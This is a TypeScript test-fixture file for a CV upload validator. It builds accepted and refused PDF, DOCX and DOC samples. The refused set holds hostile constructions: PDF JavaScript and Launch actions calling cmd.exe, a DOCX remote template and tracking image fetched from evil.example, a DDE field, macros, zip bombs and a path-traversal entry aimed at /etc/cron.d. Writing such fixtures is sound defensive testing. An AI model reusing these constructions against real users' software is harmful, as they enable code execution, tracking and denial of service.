/** Files for tests: valid ones of each kind, and forged ones. Archives are built byte by byte, so that a test can put false values into them. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

interface Entry {
  name: string;
  content: Buffer;
  /** A false unpacked size. */
  claims?: number;
  encrypted?: boolean;
  /** A false checksum. */
  checksum?: number;
}

export function zip(entries: Entry[]): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const { name, content, claims, encrypted, checksum } of entries) {
    const packed = deflateRawSync(content);
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(encrypted ? 1 : 0, 2);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(checksum ?? crc32(content), 10);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(claims ?? content.length, 18);
    fields.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), fields, Buffer.from(name), packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    directory.push(
      Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), fields, tail, Buffer.from(name)]),
    );
    parts.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, central, end]);
}

const xml = (text: string) => Buffer.from(`<?xml version="1.0"?><w:document>${text}</w:document>`);
const types = { name: '[Content_Types].xml', content: xml('types') };
const body = { name: 'word/document.xml', content: xml('Anna Rossi, ten years of TypeScript') };

export const docx = zip([types, { name: '_rels/.rels', content: xml('rels') }, body]);
const pdfObjects = '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj';
const makePdf = (objects: string) =>
  Buffer.from(
    `%PDF-1.7\n${objects}\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R>>\nstartxref\n110\n%%EOF\n`,
    'latin1',
  );
export const pdf = makePdf(pdfObjects);
const script = '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj';
/** Compressed bytes, in which any three bytes occur by chance. */
const packed =
  '4 0 obj<</Filter/FlateDecode/Length 17>>stream\nx\u009c\u00e3/JS \u0091>>stream\n\u00f8\nendstream endobj';
/** Writes objects inside a compressed stream, as most programs do today. */
const objectStream = (objects: string, dictionary = '/Type/ObjStm') => {
  const packedObjects = deflateSync(Buffer.from(`9 0 ${objects}`, 'latin1')).toString('latin1');
  return `8 0 obj<<${dictionary}/N 1/First 4/Filter/FlateDecode/Length ${packedObjects.length}>>stream\n${packedObjects}\nendstream endobj`;
};
const relations = (...entries: string[]) => ({
  name: 'word/_rels/document.xml.rels',
  content: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="r">${entries.join('')}</Relationships>`),
});
const relation = (type: string, target: string, more = ' TargetMode="External"') =>
  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${more}/>`;
const remote = 'https://evil.example/template.dotm';
const ole = (names: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    Buffer.from(names, 'utf16le'),
    Buffer.alloc(512),
  ]);
export const doc = ole('Root Entry WordDocument');

export const acceptedFiles: [string, string, Buffer][] = [
  ['a PDF', 'cv.pdf', pdf],
  ['a DOCX', 'CV Anna.DOCX', docx],
  ['a DOC', 'cv.doc', doc],
  [
    'a PDF with compressed bytes that look like a name',
    'cv.pdf',
    makePdf(`${pdfObjects} ${packed} ${packed.replace('4 0', '5 0')}`),
  ],
  [
    'a PDF with objects in a stream, and a link to a page about scripts',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</S/URI/URI(https://example.com/JavaScript/JS)>>')}`),
  ],
  [
    'a DOCX with links, a picture and a template of its own machine',
    'cv.docx',
    zip([
      types,
      body,
      { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') },
      relations(
        relation('hyperlink', 'https://example.com/anna'),
        relation('image', 'media/image1.png', ''),
        relation('attachedTemplate', 'file:///C:\\Users\\anna\\CV.dotx'),
      ),
    ]),
  ],
  [
    'a DOC that speaks of macros',
    'cv.doc',
    ole('Root Entry WordDocument\u0000\u0000Excel (Macros, VBA), Macros\r\u0000\u0000'),
  ],
];

export const refusedFiles: [string, string, Buffer][] = [
  ['a program', 'cv.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])],
  ['a web page', 'cv.pdf', Buffer.from(`<!doctype html><script>alert(1)</script>${' '.repeat(200)}%PDF-1.7 %%EOF`)],
  ['a PDF named as something else', 'cv.html', pdf],
  ['a PDF with two names', 'cv.pdf.exe', pdf],
  ['a PDF that is called DOCX', 'cv.docx', pdf],
  ['a DOCX that is called PDF', 'cv.pdf', docx],
  ['a PDF that is also an archive', 'cv.pdf', Buffer.concat([pdf, docx, Buffer.from('%%EOF')])],
  ['an archive behind a PDF header', 'cv.docx', Buffer.concat([pdf, docx])],
  ['an archive with something behind it', 'cv.docx', Buffer.concat([docx, Buffer.from('<script>alert(1)</script>')])],
  ['a PDF with a script', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj`)],
  ['a PDF with an escaped script', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/J#61vaScript>>endobj`)],
  ['a PDF that starts a program', 'cv.pdf', makePdf(`${pdfObjects} 3 0 obj<</S/Launch/F(cmd.exe)>>endobj`)],
  ['a PDF with a script between streams', 'cv.pdf', makePdf(`${pdfObjects} ${packed} ${script} ${packed}`)],
  ['a PDF with a script before a stream', 'cv.pdf', makePdf(`${pdfObjects} ${script} ${packed}`)],
  [
    'a PDF with a script behind a stream without an end',
    'cv.pdf',
    makePdf(`${pdfObjects} 4 0 obj<<>>stream\nx ${script}`),
  ],
  [
    'a PDF with a script behind a stream that ends in another one',
    'cv.pdf',
    makePdf(`${pdfObjects} 4 0 obj<<>>stream\nx ${script} ${packed}`),
  ],
  [
    'a PDF with a script in the dictionary of a stream',
    'cv.pdf',
    makePdf(`${pdfObjects} ${packed.replace('<<', '<</AA<</O<</S/JavaScript>>>>')}`),
  ],
  [
    'a PDF with a script in an object stream',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</S/JavaScript/JS(app.alert(1))>>')}`),
  ],
  [
    'a PDF with an escaped script in an object stream',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</S%x\n/J#61vaScript/J#53(app.alert(1))>>', '/Type/Obj#53tm')}`),
  ],
  [
    'a PDF with a script in an object stream that does not say so',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</S/Launch/F(cmd.exe)>>', '/Type 7 0 R')}`),
  ],
  [
    'a PDF with a file in an object stream',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream('<</Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>>>')}`),
  ],
  [
    'a PDF with an object stream that is packed twice',
    'cv.pdf',
    makePdf(
      `${pdfObjects} ${objectStream('<</S/JavaScript>>').replace('/Filter/FlateDecode', '/Filter[/ASCIIHexDecode/FlateDecode]')}`,
    ),
  ],
  [
    'a PDF with an object stream that is a bomb',
    'cv.pdf',
    makePdf(`${pdfObjects} ${objectStream(' '.repeat(100 * 1024 * 1024))}`),
  ],
  [
    'an encrypted PDF',
    'cv.pdf',
    Buffer.from(pdf.toString('latin1').replace('<</Root', '<</Encrypt 6 0 R/Root'), 'latin1'),
  ],
  [
    'a DOCX with a template from elsewhere',
    'cv.docx',
    zip([types, body, relations(relation('attachedTemplate', remote))]),
  ],
  [
    'a DOCX with a template from a share',
    'cv.docx',
    zip([types, body, relations(relation('attachedTemplate', 'file://evil.example/share/x.dotm'))]),
  ],
  [
    'a DOCX with a template in other words',
    'cv.docx',
    zip([types, body, relations(relation('attachedTemplate', remote, ' TargetMode="Extern&#97;l"'))]),
  ],
  [
    'a DOCX with a picture from elsewhere',
    'cv.docx',
    zip([types, body, relations(relation('image', 'https://evil.example/seen.png'))]),
  ],
  [
    'a DOCX with a link that runs',
    'cv.docx',
    zip([types, body, relations(relation('hyperlink', 'javascript:alert(1)'))]),
  ],
  [
    'a DOCX with an embedded object',
    'cv.docx',
    zip([types, body, { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') }]),
  ],
  [
    'a DOCX with an object under another name',
    'cv.docx',
    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
  ],
  [
    'a DOCX with a program under another name',
    'cv.docx',
    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('MZ\u0090 This program') }]),
  ],
  [
    'a DOCX with a field that starts a program',
    'cv.docx',
    zip([
      types,
      {
        name: 'word/document.xml',
        content: xml('<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO c:\\cmd.exe</w:instrText>'),
      },
    ]),
  ],
  [
    'a DOCX with an entity',
    'cv.docx',
    zip([
      types,
      { name: 'word/document.xml', content: Buffer.from('<!DOCTYPE x [<!ENTITY a "b">]><w:document>&a;</w:document>') },
    ]),
  ],
  [
    'a bomb of 100 MB whose directory says 5 KB',
    'cv.docx',
    zip([types, body, { name: 'word/media/image1.png', content: Buffer.alloc(100 * 1024 * 1024), claims: 5000 }]),
  ],
  ['a part that is not what its checksum says', 'cv.docx', zip([types, { ...body, checksum: 1 }])],
  ['a DOC with an embedded program', 'cv.doc', ole('Root Entry WordDocument \u0001Ole10Native')],
  ['a plain archive', 'cv.docx', zip([{ name: 'cv.txt', content: Buffer.alloc(300, 'x') }])],
  ['a DOCX with macros', 'cv.docx', zip([types, body, { name: 'word/vbaProject.bin', content: Buffer.from('macro') }])],
  ['an encrypted DOCX', 'cv.docx', zip([types, { ...body, encrypted: true }])],
  [
    'a bomb of zeros',
    'cv.docx',
    zip([types, body, { name: 'word/media/image1.png', content: Buffer.alloc(40 * 1024 * 1024) }]),
  ],
  [
    'a bomb by its own claim',
    'cv.docx',
    zip([types, body, { name: 'word/media/image1.png', content: Buffer.from('x'), claims: 4_000_000_000 }]),
  ],
  [
    'an archive with a way out',
    'cv.docx',
    zip([types, body, { name: '../../etc/cron.d/x', content: Buffer.from('x') }]),
  ],
  ['an archive with one name twice', 'cv.docx', zip([types, body, body])],
  [
    'too many entries',
    'cv.docx',
    zip([
      types,
      body,
      ...Array.from({ length: 600 }, (_, index) => ({ name: `word/${index}.xml`, content: Buffer.from('x') })),
    ]),
  ],
  ['a DOC with macros', 'cv.doc', ole('Root Entry WordDocument Macros _VBA_PROJECT')],
  ['a DOC with a folder of macros', 'cv.doc', ole('Root Entry WordDocument Macros\u0000\u0000\u0000\u0000')],
  ['another OLE file', 'cv.doc', ole('Root Entry Workbook')],
  ['nothing', 'cv.pdf', Buffer.from('%PDF-1.7 %%EOF')],
];
